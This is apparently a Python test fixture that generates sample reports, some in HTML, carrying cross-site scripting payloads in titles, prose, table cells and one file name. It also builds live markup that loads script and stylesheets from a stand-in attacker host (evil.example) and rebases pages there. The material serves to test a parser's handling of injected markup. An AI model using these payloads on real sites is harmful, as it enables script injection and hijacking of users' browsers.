"""Reports that parse as real reports but carry HTML and script in their text.

The payloads go into the body name (the title), the prose of sections 一 and 五 and one table cell (printed as
text where a number belongs). An ``.html`` report also carries the same attacks as live markup (script
elements, event handlers, ``javascript:`` links, frames, CSS ``url(javascript:…)``, a ``<base>``); one file name
is itself a payload.
"""
from __future__ import annotations

from pathlib import Path

from hostile.base import READABLE, Sample, write
from hostile.synthetic import body_name, good_spec, render
from synth.render import ReportSpec

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">点我</a>',
    "<svg onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '"><script>alert(document.cookie)</script>',
    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
    "<base href=\"http://evil.example/\"><link rel=stylesheet href=\"//evil.example/x.css\">",
    "<style>@import 'http://evil.example/x.css';body{background:url(javascript:alert(1))}</style>",
)
# The payloads that are markup (a page printing one of them verbatim has been injected).
MARKUP_PAYLOADS = tuple(p for p in PAYLOADS if "<" in p)
TEXT_ROW = "t2.normative."  # the first cell of this row is printed as a payload instead of a number

LIVE_MARKUP_HEAD = (
    "<script>alert('head')</script>"
    "<script src=\"http://evil.example/x.js\"></script>"
    "<base href=\"http://evil.example/\">"
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"
    "<style>body{background:url(javascript:alert(1))}@import 'http://evil.example/x.css';</style>"
    "<link rel=\"stylesheet\" href=\"http://evil.example/x.css\">"
)
LIVE_MARKUP_BODY = (
    "<script>document.write('<p>注入</p>')</script>"
    "<img src=x onerror=alert(1)>"
    "<a href=\"javascript:alert(1)\">阅读原文</a>"
    "<svg onload=alert(1)><circle r=\"1\"/></svg>"
    "<iframe src=\"javascript:alert(1)\"></iframe>"
    "<object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/x.swf\">"
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">提交</button></form>"
    "<p style=\"background:url(javascript:alert(1))\" onclick=\"alert(1)\">本页面仅供参考。</p>"
)


class Printed(int):
    """A cell value printed as arbitrary text (``synth`` prints an ``int`` with ``str``)."""

    text: str

    def __new__(cls, text: str) -> "Printed":
        value = super().__new__(cls, 0)
        value.text = text
        return value

    def __str__(self) -> str:
        return self.text

    __repr__ = __str__


def payload_spec(index: int, edition: str = "2021") -> ReportSpec:
    """A consistent report whose body name, prose and one cell carry payloads (rotated by ``index``). The body
    name's payload sits inside it (青石<script>…镇人民政府): a file *starting* with ``<div`` is read as a web page."""
    rotated = PAYLOADS[index % len(PAYLOADS):] + PAYLOADS[:index % len(PAYLOADS)]
    prose = {1: "主动公开、依申请公开、政府信息管理、平台建设和监督保障工作稳步推进。" + "".join(rotated),
             5: f"存在的问题：{rotated[1]}栏目更新不及时。改进措施：{rotated[2]}加强培训。"}
    base = good_spec(200 + index, sections=prose, edition=edition, year=2022 if edition == "2021" else 2020)
    cells = dict(base.cells)
    cells[next(cid for cid in cells if cid.startswith(TEXT_ROW))] = Printed(rotated[3])
    name = body_name(20 + index)
    return ReportSpec(name[:2] + rotated[0] + name[2:], base.year, base.edition, cells, base.sections)


def live_markup(html: str) -> str:
    """An HTML report with the attacks as live markup in its head and body (and inside a table cell)."""
    html = html.replace("</head>", LIVE_MARKUP_HEAD + "</head>", 1)
    html = html.replace('<div class="xxgk-article">', '<div class="xxgk-article">' + LIVE_MARKUP_BODY, 1)
    return html.replace("<td", "<td onmouseover=\"alert(1)\"", 1)


def write_script_reports(folder: Path) -> list[Sample]:
    samples = []
    for index, fmt in enumerate(("txt", "html", "docx", "md", "html", "txt")):
        data = render(payload_spec(index, "2021" if index % 2 == 0 else "2019"), fmt)
        if fmt == "html" and index == 1:
            data = live_markup(data.decode("utf-8")).encode("utf-8")
        name = f"script_{index}.{fmt}" if index != 4 else "报告<img src=x onerror=alert(1)>.html"
        samples.append(Sample(write(folder / name, data), f"script-{fmt}", READABLE, bad=False, payloads=True))
    return samples
